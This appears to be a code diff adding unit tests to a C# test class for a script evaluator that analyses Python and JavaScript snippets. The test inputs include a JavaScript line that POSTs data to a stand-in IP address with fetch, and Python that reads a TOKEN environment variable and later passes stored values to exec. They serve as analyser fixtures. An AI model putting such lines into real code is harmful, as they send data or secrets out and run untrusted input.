@@ -23,6 +23,19 @@ public sealed class ScriptBoundsTests
             (language, pieces) => ScriptEvaluator.Evaluate(language, string.Concat(pieces), 1, new Analysis()) is not null, iter: 3_000);
 
     [Theory]
+    [InlineData("python", "a = [1, 2]\nfor x in a:\n    a.append(x)\nb = [a.append(y) for y in a]\n")]
+    [InlineData("javascript", "const a = [1, 2]; for (const x of a) { a.push(x); } a.map(x => a.push(x)); a.push(a); fetch('http://192.0.2.1', {method: 'POST', body: a})")]
+    public void A_loop_may_change_what_it_goes_through(string language, string code) =>
+        Assert.Equal(language == "python" ? 0 : 1, ScriptEvaluator.Evaluate(language, code, 1, new Analysis()).Count);
+
+    [Fact]
+    public void One_program_leaves_nothing_behind_for_the_next()
+    {
+        Evaluation.Of("python", "import os\ndef f(a):\n    a['x'] = os.environ['TOKEN']\nf(g)\n");
+        Assert.Empty(Evaluation.Lines("python", "def f(a):\n    exec(a['x'])\n    exec(a)\n"));
+    }
+
+    [Theory]
     [InlineData("(", "")]
     [InlineData("[", "")]
     [InlineData("{", "")]
